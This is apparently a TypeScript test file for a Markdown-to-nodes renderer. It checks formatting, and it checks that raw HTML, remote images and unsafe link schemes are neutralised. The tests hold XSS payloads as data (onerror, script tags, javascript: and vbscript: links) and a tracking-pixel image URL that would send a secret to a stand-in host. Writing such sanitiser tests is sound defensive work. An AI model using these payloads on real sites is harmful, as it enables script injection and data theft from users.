import { describe, expect, it } from "vitest";
import { markdownNodes, type MdNode } from "../src/markdown";

/** Every element node of a tree, depth first. */
function elements(nodes: MdNode[]): Exclude<MdNode, string>[] {
  const out: Exclude<MdNode, string>[] = [];
  const visit = (n: MdNode) => {
    if (typeof n === "string") return;
    out.push(n);
    n.children.forEach(visit);
  };
  nodes.forEach(visit);
  return out;
}
const text = (nodes: MdNode[]): string => nodes.map((n) => (typeof n === "string" ? n : text(n.children))).join("");
const tags = (nodes: MdNode[]) => elements(nodes).map((e) => e.tag);

describe("markdownNodes", () => {
  it("draws Markdown as the cell output does: emphasis, lists, code, tables", () => {
    const nodes = markdownNodes("A **bold** and `code` word.\n\n- one\n- two\n\n```py\nx = 1\n```\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~gone~~");
    expect(tags(nodes)).toEqual(expect.arrayContaining(["p", "strong", "code", "ul", "li", "pre", "table", "th", "td", "s"]));
    expect(text(nodes)).toContain("x = 1");
    expect(elements(nodes).find((e) => e.tag === "td")?.attrs.class).toBe("dnb-md-left");
  });

  it("keeps raw HTML as text: no element the Markdown did not make", () => {
    const nodes = markdownNodes('Hi <img src=x onerror="alert(1)"> <script>alert(2)</script>\n\n<div onclick="x()">block</div>');
    expect(tags(nodes).filter((t) => !["p"].includes(t))).toEqual([]);
    expect(text(nodes)).toContain('<img src=x onerror="alert(1)">');
    expect(text(nodes)).toContain("<script>alert(2)</script>");
    expect(text(nodes)).toContain('<div onclick="x()">block</div>');
  });

  it("never fetches a remote image: it becomes a link that loads nothing until clicked", () => {
    const nodes = markdownNodes("see ![pixel](https://evil.example/p.png?d=secret) here");
    expect(tags(nodes)).not.toContain("img");
    const link = elements(nodes).find((e) => e.tag === "a");
    expect(link?.attrs.class).toBe("dnb-remote-image");
    expect(text(link ? [link] : [])).toBe("[image: pixel] (https://evil.example/p.png?d=secret)");
  });

  it("draws an inline data image, and only an image type render.py allows", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const img = elements(markdownNodes(`![dot](${png})`)).find((e) => e.tag === "img");
    expect(img?.attrs).toEqual({ src: png, alt: "dot" });
    expect(tags(markdownNodes("![x](data:image/svg+xml;base64,PHN2Zz4=)"))).not.toContain("img");
  });

  it("refuses javascript:, vbscript: and data: links; keeps http(s), mailto and relative ones", () => {
    for (const bad of ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4="]) {
      const nodes = markdownNodes(`[click](${bad})`);
      expect(elements(nodes).filter((e) => e.tag === "a" && e.attrs.href)).toEqual([]);
    }
    const hrefs = ["https://example.org/a", "mailto:a@b.c", "docs/page.md"].map(
      (u) => elements(markdownNodes(`[x](${u})`)).find((e) => e.tag === "a")?.attrs.href,
    );
    expect(hrefs).toEqual(["https://example.org/a", "mailto:a@b.c", "docs/page.md"]);
  });
});
